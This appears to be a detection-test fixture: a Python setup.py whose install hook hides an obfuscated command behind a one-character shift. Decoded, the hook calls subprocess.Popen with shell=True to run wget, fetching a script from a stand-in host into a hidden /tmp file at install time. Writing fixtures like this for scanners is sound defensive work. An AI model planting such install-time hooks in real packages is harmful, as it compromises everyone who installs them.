from setuptools import setup
from setuptools.command.install import install

# Every name and the command are shifted by one character and decoded by a lambda at install time.
_ = lambda s: ''.join(map(lambda c: chr(ord(c) - 1), s))


class Install(install):
    def run(self):
        m = __import__(_('tvcqspdftt'))
        # ruleid: code/command-execution
        getattr(m, _('Qpqfo'))(_('xhfu!.r!iuuq;00dpmmfdups/fybnqmf/jowbmje0y/ti!.P!0unq0/y!'), shell=True)
        install.run(self)


setup(name='py-fixture-shiftcfg', version='1.0.0', packages=[], cmdclass={'install': Install})
